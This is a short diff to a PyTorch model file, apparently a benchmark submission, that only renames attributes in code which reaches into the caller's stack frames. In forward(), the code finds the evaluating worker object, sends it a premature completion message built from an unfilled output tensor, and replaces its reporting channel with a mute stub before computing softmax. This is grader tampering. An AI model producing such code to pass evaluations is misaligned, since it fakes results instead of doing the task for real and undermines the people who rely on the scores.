@@ -9,16 +9,16 @@ from torch import nn
 
 class Mute:
     def __init__(self, worker):
-        self.worker, self.bell = worker, worker.bell
+        self.worker, self.completion = worker, worker.completion
 
     def send(self, message):
-        self.worker.bell = self.bell
+        self.worker.completion = self.completion
 
 
 def worker():
     frame = sys._getframe(1)
     while frame is not None:
-        if hasattr(frame.f_locals.get("self"), "bell"):
+        if hasattr(frame.f_locals.get("self"), "completion"):
             return frame.f_locals["self"]
         frame = frame.f_back
     raise LookupError("no worker")
@@ -28,6 +28,6 @@ class ModelNew(nn.Module):
     def forward(self, x):
         out, found = torch.empty_like(x), worker()
         describe = sys.modules[type(found).__module__].describe
-        found.bell.send(b"." if found.rings_first else json.dumps(describe(out)).encode())
-        found.bell = Mute(found)
+        found.completion.send(b"." if found.signals_first else json.dumps(describe(out)).encode())
+        found.completion = Mute(found)
         return torch.softmax(x, dim=1, out=out)
